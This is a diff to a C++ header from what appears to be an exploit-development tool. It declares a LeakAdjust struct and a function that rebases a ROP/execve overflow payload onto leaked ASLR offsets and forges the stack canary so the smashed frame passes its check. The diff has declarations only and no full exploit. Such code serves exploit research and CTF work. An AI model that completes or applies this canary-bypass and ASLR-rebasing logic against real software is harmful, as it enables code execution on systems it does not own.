@@ -49,6 +49,25 @@ struct OverflowPayload {
   std::uint64_t syscall_gadget = 0;
 };
 
+/// What the speculative leak stage learned, expressed as deltas against the
+/// recon run's (no-ASLR) layout plus the raw canary value.
+struct LeakAdjust {
+  std::uint64_t image_delta = 0;  ///< leaked load base − link-time base
+  std::uint64_t stack_delta = 0;  ///< leaked entry sp − recon start_sp
+  bool patch_canary = false;      ///< rewrite the in-frame canary slot
+  std::uint64_t canary = 0;       ///< leaked canary value
+};
+
+/// Rebases a payload planned against the recon layout onto the leaked one:
+/// the three gadget words and the resume word shift by image_delta, the
+/// buffer-pointer word by stack_delta, and (when patch_canary) the 8 bytes
+/// directly below the return slot are set to the leaked canary so the
+/// epilogue's check passes even though the frame was smashed through.
+/// `filler_length` is the planning-time filler (chain words start there).
+OverflowPayload patch_payload_for_leak(const OverflowPayload& payload,
+                                       std::uint64_t filler_length,
+                                       const LeakAdjust& adjust);
+
 class ChainBuilder {
  public:
   /// Words appended behind the filler by build_execve_payload.
